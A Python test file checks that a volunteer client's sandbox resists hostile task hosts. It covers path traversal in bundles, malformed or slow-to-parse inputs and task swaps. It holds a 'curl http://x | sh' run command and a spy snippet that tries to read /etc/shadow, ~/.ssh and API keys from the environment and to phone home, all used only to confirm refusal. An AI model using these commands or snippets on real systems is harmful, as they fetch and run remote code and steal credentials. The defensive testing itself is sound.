"""Attacks of hosts, and of proxies before them, on a volunteer: to read or write its files, to make it run what it did
not agree to, to end its search."""

from __future__ import annotations

import base64
import hashlib
import json
import math
import socket
import time
import tomllib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
import tomli_w

from analysis.study import query
from arena.home.bundle import MOST_PARSED, Bundle, unpack
from arena.home.project import Project
from arena.home.protocol import Proposal
from arena.home.volunteer import VolunteerSession
from arena.work import sandbox
from programs.common.errors import EnvironmentProblem, MetaloopError, UsageError
from tests.arena.home.clients import better, rows
from tests.arena.home.serving import serving
from tests.arena.home.test_serving import session


def bundle_of(project: Project, name: str, content: bytes) -> Bundle:
    """The project's bundle with another file."""
    coded = {**json.loads(project.bundle.body), name: base64.b64encode(content).decode()}
    return Bundle(json.dumps(coded).encode())


def toml_with(project: Project, change: Callable[[dict[str, Any]], object]) -> bytes:
    read = tomllib.loads((project.task.folder / "task.toml").read_text("utf-8"))
    change(read)
    return tomli_w.dumps(read).encode()


def test_a_bundle_writes_nothing_outside(project: Project, tmp_path: Path) -> None:
    names = ["../x", "/etc/x", "a/../../x", "..", "a\\b", ".bashrc", "a//b", "x" * 300, "a\0b", ""]
    for in_main, name in [(False, name) for name in names] + [(True, "../train.py")]:
        body = json.dumps({**json.loads(project.bundle.body), **({} if in_main else {name: ""})}).encode()
        with pytest.raises(UsageError, match="forbidden name"):
            unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "v" / "task", {name: "x"} if in_main else {})
        assert not (tmp_path / "v").exists() and not (tmp_path / "x").exists()


PRINTED = {"kind": "printed", "pattern": "metric: (.*)"}


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda t: t.update(run={"command": "curl http://x | sh"}, score=PRINTED), "runs a command"),
        (lambda t: t.setdefault("data", {}).update(source="/etc/passwd"), "data.source: unknown key"),
        (lambda t: t["task"].update(editable=["../../../etc/passwd"]), "is outside the task folder"),
        (lambda t: t["score"].update(kind="theirs"), "no scorer 'theirs'"),
    ],
)
def test_task_with_a_command_or_scoring_of_its_own_is_refused(
    project: Project, tmp_path: Path, change: Callable[[dict[str, Any]], object], why: str
) -> None:
    bundle = bundle_of(project, "task.toml", toml_with(project, change))
    with pytest.raises(MetaloopError, match=why):
        unpack(bundle.body, bundle.digest, tmp_path / "task", {})


def test_damaged_bundles_are_refused(tmp_path: Path) -> None:
    for body in (b"", b"[]", b"{}", b'{"task.toml": 7}', b'{"task.toml": "%%%"}', b"{" * 9999, b"\xff"):
        with pytest.raises(UsageError):
            unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / f"task{len(body)}", {})


def test_bundle_with_another_hash_size_or_files_is_refused(project: Project, tmp_path: Path) -> None:
    bundle = project.bundle
    with pytest.raises(UsageError, match="not the one"):
        unpack(bundle.body, "0" * 64, tmp_path / "a", {})
    for extra in ({f"f{k}": "" for k in range(500)}, {"big": base64.b64encode(bytes(9 << 20)).decode()}):
        body = json.dumps({**json.loads(bundle.body), **extra}).encode()
        with pytest.raises(UsageError, match=r"too large|not the one"):
            unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "b", {})
    with pytest.raises(UsageError, match="other files"):
        unpack(bundle.body, bundle.digest, tmp_path / "c", {"prepare.py": "import os\n"})


SPY = """
import os, pathlib, socket
SEEN = [value for value in os.environ.values() if "my key" in value]
for path in ({secret!r}, "/root/.ssh", "/etc/shadow", os.path.expanduser("~/.bashrc")):
    try:
        SEEN.append(pathlib.Path(path).read_bytes()[:20])
    except OSError:
        pass
for path in ({outside!r},):
    try:
        pathlib.Path(path).write_text("x")
    except OSError:
        pass
try:
    SEEN.append(socket.create_connection(("127.0.0.1", {port}), 2).recv(1))
except OSError:
    pass
if SEEN:
    raise RuntimeError("SAW " + repr(SEEN))
"""


def test_host_cannot_read_or_write_files_of_the_volunteers(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its data.py and its train.py run in the volunteer's sandbox: no file, no environment, no network."""
    sandbox.require(project.task, True)
    monkeypatch.setenv("SOME_API_KEY", "my key")
    private = tmp_path / "private"
    private.mkdir()
    (private / "secret.txt").write_text("my key")
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        places = {"secret": str(private / "secret.txt"), "outside": str(private / "outside")}
        spy = SPY.format(**places, port=listening.getsockname()[1])

        def spying(file: str) -> str:
            head, _, rest = (project.task.folder / file).read_text("utf-8").partition("\nimport ")
            return f"{head}\n{spy}\nimport {rest}"

        (tmp_path / "v").mkdir()
        bundle = bundle_of(project, "data.py", spying("data.py").encode())
        ann = hosted(tmp_path / "v", project, bundle, {"train.py": spying("train.py")})
        run = ann.begin()
        ann.run(run)
        listening.settimeout(0.2)
        with pytest.raises(TimeoutError):
            listening.accept()
    found = query(run / "study", "SELECT status, reason FROM experiments")
    assert len(found) > 1 and found[0]["status"] == "ok"  # nothing was seen, or its first training would have failed
    assert not (private / "outside").exists() and "SAW" not in str(found)


def about(changes: Mapping[str, Any]) -> bytes:
    """What a host answers to a request for its project."""
    task = {"name": "t", "digest": "0" * 64, "unit": "nats"}
    project = {"project": "h0123456789ab", "title": "t", "task": task, "block": 0, "commit": "0" * 40}
    return json.dumps({**project, "files": {"train.py": ""}, "budget": 1.2, **changes}).encode()


def hosted(folder: Path, project: Project, bundle: Bundle, main: Mapping[str, str]) -> VolunteerSession:
    """A volunteer that has joined a host with this task and these files of main."""
    task = {"name": "t", "digest": bundle.digest, "unit": "nats"}
    ann = session("http://127.0.0.1:9", folder)
    answers = {"/api/v1/project": about({"project": project.project_id, "task": task, "files": main})}
    ann.reach = lambda path, *_: answers.get(path, bundle.body)  # type: ignore[method-assign]
    joined = {"url": "http://127.0.0.1:9", "project": project.project_id, "task": bundle.digest, "token": "t"}
    (folder / "project.json").write_text(json.dumps(joined))
    return ann


def test_a_main_that_is_malformed_is_not_kept(project: Project, tmp_path: Path) -> None:
    (tmp_path / "v").mkdir()
    ann = hosted(tmp_path / "v", project, project.bundle, {})
    malformed: list[tuple[str, object]] = [
        ("project", "../../outside"), ("project", 7), ("commit", "../task"), ("files", {}), ("files", {"train.py": 7}),
        ("budget", math.inf), ("budget", 1e9), ("budget", 0.0), ("block", True),
    ]  # fmt: skip
    for field, value in malformed:
        ann.reach = lambda *_, sent={field: value}: about(sent)  # type: ignore[method-assign]
        with pytest.raises(EnvironmentProblem, match=f"the host's answer is malformed: {field}"):
            ann.step()
        assert not list(ann.runs.iterdir()) and not (tmp_path / "outside").exists()


def test_what_a_bundle_gives_to_parse_is_small(project: Project, tmp_path: Path) -> None:
    for name in ("task.toml", "train.py", "prepare.py"):
        bundle = bundle_of(project, name, b"#" * (MOST_PARSED + 1))
        with pytest.raises(UsageError, match=f"{name} of the task bundle is larger than"):
            unpack(bundle.body, bundle.digest, tmp_path / "task", {})
    assert not (tmp_path / "task").exists()


def test_main_cannot_change_the_task_that_was_agreed_to(project: Project, tmp_path: Path) -> None:
    """Its task.toml would name itself as editable, and so fit whatever files main has."""
    own = toml_with(project, lambda read: read.update(editable=["train.py", "task.toml"])).decode()
    with pytest.raises(UsageError, match="could change the task that was agreed to"):
        unpack(project.bundle.body, project.bundle.digest, tmp_path / "task", {"train.py": "x = 1\n", "task.toml": own})
    assert not (tmp_path / "task").exists()


@pytest.mark.parametrize(
    ("content", "why"),
    [
        pytest.param(".".join(["a"] * 120_000) + " = 1\n", "takes too long", marks=pytest.mark.slow, id="dotted"),
        pytest.param("x = " + "[" * 100_000, "is damaged: RecursionError", id="nested"),
    ],
)
def test_a_bundle_that_is_slow_to_parse_costs_a_volunteer_little(
    project: Project, tmp_path: Path, content: str, why: str
) -> None:
    """Another process reads it first, and is ended; this one waits."""
    bundle, began = bundle_of(project, "task.toml", content.encode()), time.thread_time()
    with pytest.raises(UsageError, match=why):
        unpack(bundle.body, bundle.digest, tmp_path / "task", {})
    assert time.thread_time() - began < 1.0


def test_another_task_than_the_one_agreed_to_is_not_run(project: Project, tmp_path: Path) -> None:
    (tmp_path / "v").mkdir()
    ann = hosted(tmp_path / "v", project, project.bundle, {"train.py": "x = 1\n"})
    task = {"name": "t", "digest": "1" * 64, "unit": "nats"}
    ann.reach = lambda *_: about({"project": project.project_id, "task": task})  # type: ignore[method-assign]
    with pytest.raises(UsageError, match="another task than the one that you agreed to"):
        ann.step()
    assert not list(ann.runs.iterdir())


def test_the_task_that_is_joined_is_the_one_that_was_shown(project: Project, tmp_path: Path) -> None:
    other = bundle_of(project, "task.toml", toml_with(project, lambda t: t["budget"].update(memory_mb=999)))
    with serving(project) as url:
        ann = session(url, tmp_path / "v")
        ann.preview()
        vars(project)["bundle"] = other  # shown one task, asked to run another
        with pytest.raises(UsageError, match="not the one that was shown"):
            ann.join()
    assert ann.joined is None


def test_what_main_says_of_itself_is_one_printable_line(project: Project, tmp_path: Path) -> None:
    (tmp_path / "v").mkdir()
    ann, lines = hosted(tmp_path / "v", project, project.bundle, {}), list[str]()
    ann.say = lines.append
    folder = ann.runs / "0001"
    folder.mkdir()
    (folder / "proposal.json").write_text(json.dumps({"base": "0" * 40, "files": {"train.py": ""}, "gain": 1.0}))
    answer = {"state": "rejected\n\x1b[2J", "reason": "a\nerror: b" + "x" * 9000, "proposal": 1}
    ann.reach = lambda *_: json.dumps(answer).encode()  # type: ignore[method-assign]
    ann.hand_in(folder)
    assert lines[-1].isprintable() and len(lines[-1]) < 700


def test_a_host_that_refuses_or_changes_answers_ends_no_search(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is asked again about proposals that wait, whatever it says of them, and never again about others."""
    asked = list[str]()
    with serving(project) as url:
        ann = session(url, tmp_path / "v")
        ann.join()
        proposal = Proposal(base=project.chain.head, files=better(project, LR=0.1), gain=0.5)
        ann.run = lambda _: proposal  # type: ignore[method-assign,assignment]
        ask, reach = ann.ask, ann.reach

        def refuse(path: str, *more: Any) -> Any:
            if path == "/api/v1/proposals":
                raise UsageError("too large")
            return ask(path, *more)

        with monkeypatch.context() as patch:
            patch.setattr(ann, "ask", refuse)
            ann.step()
        answer = json.loads((ann.runs / "0001" / "answer.json").read_text())
        assert answer["state"] == "refused" and answer["reason"] == "too large"
        ann.reach = lambda path, *more: (asked.append(path), reach(path, *more))[1]  # type: ignore[method-assign]
        for asked_about in (1, 2, 1):  # hands in one more each time, and asks about the one that waits
            ann.step()
            assert asked.count("/api/v1/proposals") == asked_about
            asked.clear()
            if asked_about == 2:
                for folder in ann.run_folders():
                    (folder / "answer.json").write_text('{"state": "rejected"}')
    assert len(rows(project)) == 1
